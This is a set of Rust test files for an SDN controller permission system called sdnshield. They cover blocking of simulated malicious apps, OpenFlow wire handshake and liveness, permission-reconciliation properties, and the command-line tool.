                 PERM network_access LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0",
            )
            .unwrap(),
        )
        .unwrap();
        c.register(
            Box::new(hijack),
            &parse_manifest(
                "PERM topology_event\nPERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS",
            )
            .unwrap(),
        )
        .unwrap();
        c.register(
            Box::new(tunnel),
            &parse_manifest("PERM topology_event\nPERM insert_flow LIMITING ACTION FORWARD")
                .unwrap(),
        )
        .unwrap();
        c.inject_host_frame(http_frame(3, 1));
        c.deliver_topology_change("wake");
        c.quiesce();
        for (i, s) in [&s1, &s2, &s3, &s4].iter().enumerate() {
            let st = s.lock();
            matrix[i].2 = st.successes > 0;
            assert!(
                st.attempts > 0,
                "{} never woke under SDNShield",
                matrix[i].0
            );
        }
        c.shutdown();
    }

    for (class, baseline_vulnerable, shielded_vulnerable) in &matrix {
        assert!(baseline_vulnerable, "{class}: baseline must be vulnerable");
        assert!(!shielded_vulnerable, "{class}: SDNShield must block it");
    }
}
