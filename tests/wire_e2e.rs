//! End-to-end tests for the southbound wire path over loopback TCP: the
//! HELLO/FEATURES handshake, PACKET_INs flowing through the full mediation
//! pipeline (deputy, permission engine, audit, decision trace), echo
//! liveness with flow reaping, and tolerance of unknown message types.
//!
//! The liveness and tolerance tests drive `Reactor::poll_once` directly so
//! the virtual clock is deterministic; the mediation test uses the spawned
//! reactor thread exactly as production does.

use std::io::Write as _;
use std::net::TcpStream;
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use sdnshield::controller::audit::AuditOutcome;
use sdnshield::controller::southbound::{Reactor, SouthboundConfig, LIVENESS_PAYLOAD};
use sdnshield::openflow::messages::{OfBody, OfMessage, PacketIn, PacketInReason};
use sdnshield::openflow::southbound::StreamDecoder;
use sdnshield::openflow::types::{BufferId, DatapathId, PortNo, Xid};
use sdnshield::openflow::wire::{self, msg_type, HEADER_LEN, WIRE_VERSION};
use sdnshield::wirebench::{serve_l2, SwitchConn, WireEvent};

fn arp_packet_in() -> PacketIn {
    use sdnshield::openflow::packet::EthernetFrame;
    use sdnshield::openflow::types::{EthAddr, Ipv4};
    // A broadcast ARP who-has, built by the same frame codec the data plane
    // parses — the L2 app floods it (one PACKET_OUT, no FLOW_MOD).
    let frame = EthernetFrame::arp_request(
        EthAddr::from_u64(0x02_00_00_00_00_01),
        Ipv4::new(10, 0, 0, 1),
        Ipv4::new(10, 0, 0, 2),
    );
    PacketIn {
        buffer_id: BufferId::NO_BUFFER,
        in_port: PortNo(1),
        reason: PacketInReason::NoMatch,
        payload: frame.to_bytes(),
    }
}

/// Raw frame writer for the deterministic tests: encode and push a body
/// with an explicit xid straight onto the socket.
fn send_raw(stream: &mut TcpStream, xid: u32, body: &OfBody) {
    let mut buf = Vec::new();
    wire::encode_into(&OfMessage::new(Xid(xid), body.clone()), &mut buf);
    stream.write_all(&buf).expect("socket write");
}

/// Pumps `poll_once` until the decoder yields a frame or `max_ticks` pass.
fn pump_until_frame(
    reactor: &mut Reactor,
    tick: &mut u64,
    stream: &mut TcpStream,
    dec: &mut StreamDecoder,
    max_ticks: u64,
) -> Option<(u8, Xid, Vec<u8>)> {
    let deadline = Instant::now() + Duration::from_secs(10);
    for _ in 0..max_ticks {
        *tick += 1;
        reactor.poll_once(*tick);
        match dec.read_from(stream) {
            Ok(_) => {}
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                // Nothing on the wire yet — yield so the app/deputy threads
                // that produce the response get scheduled.
                std::thread::sleep(Duration::from_micros(200));
            }
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
            Err(e) => panic!("socket read: {e}"),
        }
        if let Some(f) = dec.next_frame().expect("valid stream") {
            return Some((f.ty, f.xid, f.body.to_vec()));
        }
        if Instant::now() > deadline {
            break;
        }
    }
    None
}

/// Deterministic fixture: a served L2 controller with the reactor polled by
/// hand, plus one raw connection that has completed the handshake.
fn handshaken_raw_conn(
    config: SouthboundConfig,
) -> (
    Arc<sdnshield::controller::ShieldedController>,
    Reactor,
    u64,
    TcpStream,
    StreamDecoder,
) {
    use sdnshield::apps::{L2LearningSwitch, L2_MANIFEST};
    use sdnshield::core::parse_manifest;
    use sdnshield::netsim::network::Network;
    use sdnshield::netsim::topology::builders;

    let network = Network::new(builders::linear(2), 1024);
    let controller = Arc::new(sdnshield::controller::ShieldedController::new(network, 2));
    controller.kernel().set_absorb_packet_outs(true);
    controller
        .register(
            Box::new(L2LearningSwitch::new()),
            &parse_manifest(L2_MANIFEST).unwrap(),
        )
        .unwrap();
    let mut reactor = Reactor::bind("127.0.0.1:0", Arc::clone(&controller), config).unwrap();
    let addr = reactor.local_addr();

    let mut stream = TcpStream::connect(addr).unwrap();
    stream.set_nodelay(true).unwrap();
    stream.set_nonblocking(true).unwrap();
    let mut dec = StreamDecoder::new();
    let mut tick = 0u64;

    send_raw(&mut stream, 1, &OfBody::Hello);
    // The reactor greets with its own HELLO before the FEATURES_REQUEST.
    let xid = loop {
        let (ty, xid, _) = pump_until_frame(&mut reactor, &mut tick, &mut stream, &mut dec, 1000)
            .expect("server FEATURES_REQUEST");
        if ty == msg_type::FEATURES_REQUEST {
            break xid;
        }
        assert_eq!(ty, msg_type::HELLO, "unexpected pre-handshake frame {ty}");
    };
    send_raw(
        &mut stream,
        xid.0,
        &OfBody::FeaturesReply {
            datapath_id: DatapathId(1),
            ports: vec![PortNo(1), PortNo(2)],
            table_capacity: 1024,
        },
    );
    // Let the reactor ingest the reply and register the wire egress.
    for _ in 0..50 {
        tick += 1;
        reactor.poll_once(tick);
        if reactor.stats().handshakes == 1 {
            break;
        }
    }
    assert_eq!(reactor.stats().handshakes, 1, "handshake must complete");
    assert_eq!(
        controller.kernel().with_network(|n| n.wire_egress_count()),
        1
    );
    (controller, reactor, tick, stream, dec)
}

/// Socket PACKET_INs must cross the same mediation seams as in-process
/// ones: permission-checked in a deputy, audited, decision-traced, and the
/// app's PACKET_OUT must come back over the same socket.
#[test]
fn packet_in_over_wire_is_mediated_and_answered() {
    let (controller, handle) = serve_l2("127.0.0.1:0", 2, 2, SouthboundConfig::default()).unwrap();
    controller.kernel().enable_decision_trace();

    let mut conn =
        SwitchConn::connect(handle.local_addr(), DatapathId(1), Duration::from_secs(5)).unwrap();
    conn.send_packet_in(&arp_packet_in()).unwrap();
    let ev = conn.recv_event().unwrap();
    assert!(
        ev.is_response(),
        "expected a mediated FLOW_MOD/PACKET_OUT, got {ev:?}"
    );

    // The response was produced by the permission pipeline, not a bypass:
    // the audit log holds an allowed send_packet_out and the decision trace
    // recorded the check.
    let records = controller.kernel().audit_records();
    let sent = records
        .iter()
        .filter(|r| r.operation == "send_packet_out" && matches!(r.outcome, AuditOutcome::Allowed))
        .count();
    assert!(sent >= 1, "no audited send_packet_out in {records:?}");
    let trace = controller.kernel().take_decision_trace();
    assert!(!trace.is_empty(), "decision trace must record the check");

    let stats = handle.stats();
    assert_eq!(stats.handshakes, 1);
    assert!(stats.packet_ins >= 1);
    assert!(stats.packet_outs_tx >= 1);
    assert_eq!(stats.protocol_errors, 0);

    drop(conn);
    handle.shutdown();
    controller.shutdown();
}

/// ECHO_REQUEST from the switch: the reply must mirror xid and payload
/// verbatim.
#[test]
fn echo_round_trips_xid_and_payload_verbatim() {
    let (controller, mut reactor, mut tick, mut stream, mut dec) =
        handshaken_raw_conn(SouthboundConfig::default());

    let payload = b"\x00\xffopaque probe \x7f".to_vec();
    send_raw(
        &mut stream,
        0xDEAD_BEEF,
        &OfBody::EchoRequest(Bytes::from(payload.clone())),
    );
    let (ty, xid, body) =
        pump_until_frame(&mut reactor, &mut tick, &mut stream, &mut dec, 1000).expect("echo reply");
    assert_eq!(ty, msg_type::ECHO_REPLY);
    assert_eq!(xid, Xid(0xDEAD_BEEF));
    assert_eq!(body, payload);

    reactor.close_all();
    controller.shutdown();
}

/// A switch that stops answering liveness probes is declared dead after
/// `echo_timeout` virtual ticks, its wire egress is deregistered, and its
/// flows are reaped.
#[test]
fn echo_liveness_timeout_reaps_connection_and_flows() {
    let config = SouthboundConfig {
        echo_interval: 10,
        echo_timeout: 40,
        ..SouthboundConfig::default()
    };
    let (controller, mut reactor, mut tick, mut stream, mut dec) = handshaken_raw_conn(config);

    // Give the dead-switch-to-be a flow so the reap is observable.
    use sdnshield::openflow::actions::{Action, ActionList};
    use sdnshield::openflow::flow_match::FlowMatch;
    use sdnshield::openflow::messages::FlowMod;
    let dpid = DatapathId(1);
    controller.kernel().with_network(|n| {
        let fm = FlowMod::add(
            FlowMatch::any(),
            sdnshield::openflow::types::Priority(10),
            ActionList(vec![Action::Output(PortNo(2))]),
        );
        n.apply_flow_mod(dpid, &fm).unwrap();
    });
    assert_eq!(controller.kernel().flow_count(dpid), 1);

    // Idle past echo_interval: the server must probe with its liveness
    // payload. The mirrored FLOW_MOD from the install above arrives first —
    // proof the egress mirror covers direct network writes too.
    let mut saw_flow_mod = false;
    let body = loop {
        let (ty, _, body) = pump_until_frame(&mut reactor, &mut tick, &mut stream, &mut dec, 200)
            .expect("liveness probe");
        match ty {
            msg_type::ECHO_REQUEST => break body,
            msg_type::FLOW_MOD => saw_flow_mod = true,
            other => panic!("unexpected frame type {other}"),
        }
    };
    assert!(saw_flow_mod, "flow install must be mirrored to the wire");
    assert_eq!(body, LIVENESS_PAYLOAD);

    // ...and when the switch never answers, the connection dies after the
    // timeout, the egress deregisters, and the flows are reaped.
    for _ in 0..200 {
        tick += 1;
        reactor.poll_once(tick);
        if reactor.connections() == 0 {
            break;
        }
    }
    assert_eq!(reactor.connections(), 0, "dead switch must be reaped");
    assert_eq!(reactor.stats().echo_timeouts, 1);
    assert_eq!(
        controller.kernel().with_network(|n| n.wire_egress_count()),
        0
    );
    assert_eq!(
        controller.kernel().flow_count(dpid),
        0,
        "flows must be reaped"
    );

    reactor.close_all();
    controller.shutdown();
}

/// Unknown message types mid-stream are length-skipped and counted; the
/// connection keeps working.
#[test]
fn unknown_message_types_are_skipped_not_fatal() {
    let (controller, mut reactor, mut tick, mut stream, mut dec) =
        handshaken_raw_conn(SouthboundConfig::default());

    // A future/vendor frame the codec has no variant for.
    let mut junk = Vec::new();
    junk.push(WIRE_VERSION);
    junk.push(0xC8);
    junk.extend_from_slice(&((HEADER_LEN + 5) as u16).to_be_bytes());
    junk.extend_from_slice(&0x1234_5678u32.to_be_bytes());
    junk.extend_from_slice(b"weird");
    stream.write_all(&junk).unwrap();

    // Followed by a live packet-in, which must still be mediated.
    send_raw(&mut stream, 7, &OfBody::PacketIn(arp_packet_in()));
    let (ty, _, _) = pump_until_frame(&mut reactor, &mut tick, &mut stream, &mut dec, 1000)
        .expect("mediated response after junk");
    assert_eq!(ty, msg_type::PACKET_OUT);

    let stats = reactor.stats();
    assert_eq!(stats.unknown_skipped, 1);
    assert_eq!(stats.protocol_errors, 0);
    assert_eq!(reactor.connections(), 1, "connection must survive junk");

    reactor.close_all();
    controller.shutdown();
}

/// The wirebench client surfaces responses correctly (guards the harness
/// the benchmark numbers depend on).
#[test]
fn wirebench_events_classify_responses() {
    assert!(WireEvent::FlowMod(Xid(1)).is_response());
    assert!(WireEvent::PacketOut(Xid(2)).is_response());
    assert!(!WireEvent::Other(msg_type::HELLO, Xid(3)).is_response());
}
