//! Property tests for the reconciliation engine's global invariants:
//!
//! * **monotonicity** — reconciliation only removes or narrows privileges
//!   (for stub-free manifests, the request always includes the result);
//! * **fixed point** — a reconciled manifest passes the same policy cleanly
//!   (the paper: constraints are "satisfied persistently");
//! * **exclusion soundness** — after reconciliation no app holds both sides
//!   of any mutual exclusion.

use proptest::prelude::*;

use sdnshield::core::perm::{Permission, PermissionSet};
use sdnshield::core::policy::parse_policy;
use sdnshield::core::reconcile::Reconciler;
use sdnshield::core::token::PermissionToken;

fn arb_manifest() -> impl Strategy<Value = PermissionSet> {
    proptest::collection::btree_set(0usize..PermissionToken::ALL.len(), 0..8).prop_map(|idxs| {
        PermissionSet::from_permissions(
            idxs.into_iter()
                .map(|i| Permission::unrestricted(PermissionToken::ALL[i])),
        )
    })
}

/// A random policy made of mutual exclusions between random token pairs and
/// an optional boundary over a random token subset.
fn arb_policy() -> impl Strategy<Value = String> {
    (
        proptest::collection::vec(
            (
                0usize..PermissionToken::ALL.len(),
                0usize..PermissionToken::ALL.len(),
            ),
            0..3,
        ),
        proptest::option::of(proptest::collection::btree_set(
            0usize..PermissionToken::ALL.len(),
            1..6,
        )),
    )
        .prop_map(|(exclusions, boundary)| {
            let mut src = String::new();
            for (a, b) in exclusions {
                if a == b {
                    continue;
                }
                src.push_str(&format!(
                    "ASSERT EITHER {{ PERM {} }} OR {{ PERM {} }}\n",
                    PermissionToken::ALL[a].name(),
                    PermissionToken::ALL[b].name(),
                ));
            }
            if let Some(tokens) = boundary {
                src.push_str("LET bound = {\n");
                for i in tokens {
                    src.push_str(&format!("PERM {}\n", PermissionToken::ALL[i].name()));
                }
                src.push_str("}\nASSERT APP app <= bound\n");
            }
            src
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Reconciliation never grants anything the developer didn't request.
    #[test]
    fn reconciliation_is_monotone(manifest in arb_manifest(), policy_src in arb_policy()) {
        let policy = parse_policy(&policy_src).unwrap();
        let mut rec = Reconciler::new(policy);
        rec.register_app("app", manifest.clone());
        let report = rec.reconcile("app").unwrap();
        prop_assert!(
            manifest.includes(&report.reconciled),
            "request {manifest} must include result {}",
            report.reconciled
        );
    }

    /// Reconciling the reconciled manifest is a no-op (clean fixed point).
    #[test]
    fn reconciliation_reaches_fixed_point(manifest in arb_manifest(), policy_src in arb_policy()) {
        let mut rec = Reconciler::new(parse_policy(&policy_src).unwrap());
        rec.register_app("app", manifest);
        let first = rec.reconcile("app").unwrap();
        let mut rec2 = Reconciler::new(parse_policy(&policy_src).unwrap());
        rec2.register_app("app", first.reconciled.clone());
        let second = rec2.reconcile("app").unwrap();
        prop_assert!(second.is_clean(), "violations on second pass: {:?}", second.violations);
        prop_assert_eq!(second.reconciled, first.reconciled);
    }

    /// No mutual exclusion is violated by the reconciled manifest.
    #[test]
    fn exclusions_hold_after_reconciliation(
        manifest in arb_manifest(),
        a in 0usize..PermissionToken::ALL.len(),
        b in 0usize..PermissionToken::ALL.len(),
    ) {
        prop_assume!(a != b);
        let (ta, tb) = (PermissionToken::ALL[a], PermissionToken::ALL[b]);
        let src = format!(
            "ASSERT EITHER {{ PERM {} }} OR {{ PERM {} }}",
            ta.name(),
            tb.name()
        );
        let mut rec = Reconciler::new(parse_policy(&src).unwrap());
        rec.register_app("app", manifest);
        let report = rec.reconcile("app").unwrap();
        prop_assert!(
            !(report.reconciled.contains_token(ta) && report.reconciled.contains_token(tb)),
            "both exclusive tokens survive in {}",
            report.reconciled
        );
    }

    /// Boundary assertions leave the result inside the boundary.
    #[test]
    fn boundary_holds_after_reconciliation(
        manifest in arb_manifest(),
        bound_idxs in proptest::collection::btree_set(0usize..PermissionToken::ALL.len(), 1..6),
    ) {
        let bound = PermissionSet::from_permissions(
            bound_idxs
                .iter()
                .map(|i| Permission::unrestricted(PermissionToken::ALL[*i])),
        );
        let mut src = String::from("LET bound = {\n");
        for i in &bound_idxs {
            src.push_str(&format!("PERM {}\n", PermissionToken::ALL[*i].name()));
        }
        src.push_str("}\nASSERT APP app <= bound\n");
        let mut rec = Reconciler::new(parse_policy(&src).unwrap());
        rec.register_app("app", manifest);
        let report = rec.reconcile("app").unwrap();
        prop_assert!(
            bound.includes(&report.reconciled),
            "result {} escapes boundary {}",
            report.reconciled,
            bound
        );
    }
}
