//! End-to-end tests of the `sdnshield` CLI binary.

use std::io::Write;
use std::process::Command;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_sdnshield"))
}

fn write_temp(name: &str, contents: &str) -> std::path::PathBuf {
    let mut path = std::env::temp_dir();
    path.push(format!("sdnshield-cli-test-{}-{name}", std::process::id()));
    let mut f = std::fs::File::create(&path).unwrap();
    f.write_all(contents.as_bytes()).unwrap();
    path
}

#[test]
fn check_valid_manifest() {
    let path = write_temp("ok.perm", "PERM read_statistics\nPERM insert_flow\n");
    let out = bin().arg("check").arg(&path).output().unwrap();
    assert!(out.status.success());
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(stdout.contains("manifest OK: 2 permission(s)"), "{stdout}");
    std::fs::remove_file(path).ok();
}

#[test]
fn check_reports_stubs() {
    let path = write_temp("stub.perm", "PERM network_access LIMITING AdminRange\n");
    let out = bin().arg("check").arg(&path).output().unwrap();
    assert!(out.status.success());
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(stdout.contains("AdminRange"), "{stdout}");
}

#[test]
fn check_rejects_bad_manifest_with_exit_2() {
    let path = write_temp("bad.perm", "PERM launch_missiles\n");
    let out = bin().arg("check").arg(&path).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("launch_missiles"), "{stderr}");
}

#[test]
fn reconcile_scenario1_from_files() {
    let manifest = write_temp(
        "s1.perm",
        "PERM visible_topology LIMITING LocalTopo\n\
         PERM read_statistics\n\
         PERM network_access LIMITING AdminRange\n\
         PERM insert_flow\n",
    );
    let policy = write_temp(
        "s1.pol",
        "LET LocalTopo = { SWITCH 1,2 LINK 1-2 }\n\
         LET AdminRange = { IP_DST 10.1.0.0 MASK 255.255.0.0 }\n\
         ASSERT EITHER { PERM network_access } OR { PERM insert_flow }\n",
    );
    let out = bin()
        .args(["reconcile"])
        .arg(&manifest)
        .arg(&policy)
        .arg("monitoring")
        .output()
        .unwrap();
    assert!(out.status.success());
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(stdout.contains("1 violation(s) repaired"), "{stdout}");
    assert!(
        stdout.contains("PERM host_network LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0"),
        "{stdout}"
    );
    assert!(!stdout.contains("PERM insert_flow\n"), "{stdout}");
}

#[test]
fn templates_print() {
    let out = bin().arg("templates").output().unwrap();
    assert!(out.status.success());
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(stdout.contains("attack class 1 template"), "{stdout}");
    assert!(stdout.contains("ASSERT EITHER"), "{stdout}");
}

#[test]
fn usage_on_unknown_command() {
    let out = bin().arg("frobnicate").output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("usage:"), "{stderr}");
}

#[test]
fn missing_file_reported() {
    let out = bin()
        .args(["check", "/nonexistent/manifest.perm"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
}
